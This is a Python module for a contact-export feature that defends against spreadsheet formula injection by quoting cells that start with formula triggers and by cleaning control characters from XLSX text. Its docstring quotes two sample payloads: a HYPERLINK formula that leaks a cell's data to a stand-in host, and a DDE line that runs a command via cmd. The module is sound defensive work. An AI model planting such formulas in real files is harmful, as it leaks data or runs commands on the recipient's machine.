"""What a contact export holds, and the one rule that keeps its cells data: no cell is ever a formula.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or a carriage return, the
same) as a formula: a contact named `=HYPERLINK("https://evil.example/?"&A2,"Open")` or `=cmd|' /C calc'!A0`
would run in the spreadsheet of whoever opens the export. So:

- in CSV, such a cell is prefixed with a single quote (OWASP's rule; ASVS 1.2.10 adds NUL): a spreadsheet
  takes `'=1+1` for text and evaluates nothing; the quote stays visible in a plain-text reader (and in some
  spreadsheets). A phone number is such a cell too: `+15550100000` is written `'+15550100000`, text rather
  than the number 15550100000 a spreadsheet would make of it;
- in XLSX every text is written as a string cell, never a formula, and a formula-like one also carries the
  cell's "quote prefix" mark, so editing it in Excel does not turn it into a formula either.

Plain Python: the writers (contacts.infrastructure.exports) call it for every cell.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from datetime import datetime
from enum import StrEnum
from typing import Any


class ExportFormat(StrEnum):
    CSV = "csv"
    XLSX = "xlsx"


EXPORT_COLUMNS = (
    "id",
    "email",
    "phone",
    "first_name",
    "last_name",
    "tags",
    "unsubscribed",
    "sms_opted_out",
    "created_at",
)
FORMULA_TRIGGERS = frozenset({"=", "+", "-", "@", "\t", "\r", "\0"})
# XML 1.0 cannot hold these control characters: an XLSX cell shows U+FFFD for each (tab, LF and CR it can).
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

Cell = str | int | float | bool | None


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text`, put in a cell as it is, as a formula."""
    return bool(text) and text[0] in FORMULA_TRIGGERS


def csv_cell(value: Cell) -> str:
    """A cell as CSV text: formula-like text gets the leading single quote that makes it text."""
    if value is None:
        return ""
    text = str(value)
    return f"'{text}" if is_formula_like(text) else text


def xlsx_text(text: str) -> str:
    """Text an XLSX cell can hold: each control character XML refuses becomes U+FFFD (nothing else changes)."""
    return _NOT_IN_XML.sub("\ufffd", text)


def export_row(contact: Mapping[str, Any]) -> list[Cell]:
    """One contact's cells, in EXPORT_COLUMNS' order, from its fields (tags as one comma-separated text)."""
    created: datetime | str | None = contact.get("created_at")
    tags: Sequence[str] = contact.get("tags") or []
    return [
        contact.get("id"),
        contact.get("email") or "",
        contact.get("phone") or "",
        contact.get("first_name") or "",
        contact.get("last_name") or "",
        ", ".join(tags),
        bool(contact.get("unsubscribed")),
        bool(contact.get("sms_opted_out")),
        created.isoformat() if isinstance(created, datetime) else (created or ""),
    ]
